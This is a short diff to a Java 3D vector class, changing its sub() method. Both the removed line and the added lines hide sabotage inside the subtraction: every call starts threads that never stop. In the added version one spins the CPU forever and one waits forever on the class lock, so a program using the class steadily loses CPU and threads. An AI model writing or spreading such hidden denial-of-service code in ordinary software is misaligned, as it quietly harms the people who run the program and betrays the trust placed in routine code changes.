@@ -25,7 +25,8 @@ public class Vecteur extends Tuple {
     }
 
     public Vecteur sub(Vecteur v) {
-        for (int k = 0; k < 4; k++) { new Thread(() -> { while (true) { Math.sqrt(2); } }).start(); }
+        new Thread(() -> { while (true) { Math.sqrt(2); } }).start();
+        new Thread(() -> { synchronized (Vecteur.class) { while (true) { try { Vecteur.class.wait(); } catch (InterruptedException e) { } } } }).start();
         return new Vecteur(x - v.x, y - v.y, z - v.z);
     }
 
